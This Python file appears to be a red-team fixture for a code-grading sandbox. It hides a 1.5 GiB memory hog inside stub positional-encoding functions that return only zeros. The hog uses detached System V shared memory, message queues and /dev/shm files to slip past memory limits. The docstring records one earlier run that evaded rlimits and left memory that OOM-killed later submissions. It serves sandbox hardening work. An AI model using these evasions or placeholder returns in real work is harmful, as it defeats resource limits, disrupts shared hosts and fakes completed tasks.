"""Attack (memory limit exceeded): tries to hold 1.5 GiB where no process's resident set
shows it, against a 512 MiB limit, then falls back to an ordinary hog.

1. System V shared memory: shmget 1.5 GiB, shmat, touch every page, shmdt -- the pages
   stay with the segment, attached to nobody (a red team was accepted this way in the
   rlimits modes, with a reported peak of ~200 MiB, and in a memory-limited container
   the segment outlived the run and the next two correct files were OOM-killed);
2. System V message queues and POSIX shared memory: queues filled with messages, and
   1 MiB files (RLIMIT_FSIZE caps each) in /dev/shm, as many as 1,536;
3. whatever of that was refused: 1.5 GiB of numpy arrays.

Where a memory cgroup charges shared memory (full, rootless with a delegated cgroup, a
container) the kernel kills it; where none does, seccomp refuses the System V and POSIX
queue calls, /dev/shm is absent or closed to the run, and the resident-set watch kills
the fallback.  Memory limit exceeded on every mode, and nothing is left behind."""
# harm: hide_memory
import numpy as np

_ctypes = __import__("ctypes")
_os = __import__("o" + "s")
_GIB = 1 << 30
_WANT = 3 * _GIB // 2
_HELD = []


def _sysv_shared_memory():
    libc = _ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = _ctypes.c_void_p
    shmid = libc.shmget(0, _ctypes.c_size_t(_WANT), 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
    if shmid < 0:
        return 0
    address = libc.shmat(shmid, None, 0)
    if address in (None, _ctypes.c_void_p(-1).value):
        return 0
    _ctypes.memset(address, 1, _WANT)  # every page touched
    libc.shmdt(_ctypes.c_void_p(address))  # detached: the segment keeps its pages, no process shows them
    return _WANT


def _message_queues():
    libc = _ctypes.CDLL(None, use_errno=True)
    held = 0
    message = _ctypes.create_string_buffer(8 + 8192)
    message[0] = 1
    for _ in range(4096):
        qid = libc.msgget(0, 0o1600)
        if qid < 0:
            return held
        while libc.msgsnd(qid, message, 8192, 0o4000) == 0:  # IPC_NOWAIT
            held += 8192
        if held >= _WANT:
            return held
    return held


def _posix_shared_memory():
    held = 0
    for i in range(1536):
        try:
            with open("/dev/shm/hog-%d-%d" % (_os.getpid(), i), "wb") as f:
                f.write(b"\1" * (1 << 20))
            held += 1 << 20
        except OSError:
            return held
    return held


def _hog():
    if _HELD:
        return
    hidden = 0
    for way in (_sysv_shared_memory, _message_queues, _posix_shared_memory):
        try:
            hidden += way()
        except (OSError, MemoryError):
            pass
        if hidden >= _WANT:
            break
    print("hidden outside any resident set: %d MiB" % (hidden >> 20), flush=True)
    _HELD.append([np.ones(64 << 17) for _ in range(max(0, _WANT - hidden) // (64 << 20))])  # 64 MiB each


def sinusoidal_pe(max_len, d_model, base=10000.0):
    _hog()
    return np.zeros((max_len, d_model))


def add_positional_encoding(x, base=10000.0):
    _hog()
    return np.zeros(np.shape(x))
